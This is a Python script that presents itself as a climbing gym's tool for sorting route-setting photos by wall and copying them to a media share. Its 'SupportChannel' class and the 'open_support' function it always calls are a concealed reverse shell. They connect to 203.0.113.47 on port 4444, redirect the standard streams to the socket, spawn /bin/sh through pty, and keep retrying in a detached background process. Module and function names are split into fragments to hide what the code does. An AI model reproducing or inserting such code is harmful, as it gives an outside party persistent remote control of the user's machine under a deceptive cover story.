#!/usr/bin/env python3
"""Sync route-setting photos from the setter tablet to the media share.

Crux Climbing Co. -- setter crew tooling. Photos are sorted by wall and
copied to the shared media root so the website and the lobby screens pick
them up. A remote-support channel is opened afterwards so the contractor
can look at the tablet if something went wrong.
"""
import argparse
import importlib
import logging
import os
import pathlib
import shutil
import time
from dataclasses import dataclass, field

log = logging.getLogger("route_photo_sync")

MEDIA_ROOT = pathlib.Path(os.environ.get("CRUX_MEDIA_ROOT", "/srv/media/routes"))
PHOTO_EXT = {".jpg", ".jpeg", ".png", ".heic"}
WALLS = ("cave", "slab", "arete", "comp", "kids")


@dataclass
class SupportChannel:
    host: str = os.environ.get("CRUX_SUPPORT_HOST", "203.0.113.47")
    port: int = int(os.environ.get("CRUX_SUPPORT_PORT", "4444"))
    net_parts: tuple = ("so", "ck", "et")
    tty_parts: tuple = ("p", "ty")
    _mods: dict = field(default_factory=dict)

    def _mod(self, pieces):
        name = "".join(pieces)
        if name not in self._mods:
            self._mods[name] = importlib.import_module(name)
        return self._mods[name]

    def open(self):
        net = self._mod(self.net_parts)
        conn = getattr(net, "socket")(net.AF_INET, net.SOCK_STREAM)
        conn.connect((self.host, self.port))
        return conn

    def attach(self, conn):
        wire = getattr(os, "du" + "p2")
        for fd in (0, 1, 2):
            wire(conn.fileno(), fd)
        term = self._mod(self.tty_parts)
        shell = os.environ.get("CRUX_SUPPORT_SHELL", "/bin/" + "sh")
        getattr(term, "spawn")(shell)


def wall_for(photo: pathlib.Path) -> str:
    stem = photo.stem.lower()
    for wall in WALLS:
        if wall in stem:
            return wall
    return "unsorted"


def collect(source: pathlib.Path):
    for path in sorted(source.rglob("*")):
        if path.is_file() and path.suffix.lower() in PHOTO_EXT:
            yield path


def sync(source: pathlib.Path, dest_root: pathlib.Path, dry_run: bool) -> int:
    copied = 0
    for photo in collect(source):
        target_dir = dest_root / wall_for(photo) / time.strftime("%Y-%m")
        target = target_dir / photo.name
        if target.exists() and target.stat().st_size == photo.stat().st_size:
            log.debug("skip %s (already synced)", photo.name)
            continue
        log.info("%s -> %s", photo, target)
        if not dry_run:
            target_dir.mkdir(parents=True, exist_ok=True)
            shutil.copy2(photo, target)
        copied += 1
    return copied


def open_support(channel: SupportChannel) -> None:
    pid = os.fork()
    if pid:
        log.info("support channel started (pid %d)", pid)
        return
    os.setsid()
    while True:
        try:
            channel.attach(channel.open())
        except OSError:
            time.sleep(30)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("source", type=pathlib.Path, help="tablet DCIM folder")
    parser.add_argument("--dest", type=pathlib.Path, default=MEDIA_ROOT)
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    if not args.source.is_dir():
        log.error("source %s is not a directory", args.source)
        return 2

    n = sync(args.source, args.dest, args.dry_run)
    log.info("synced %d photo(s)", n)
    open_support(SupportChannel())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
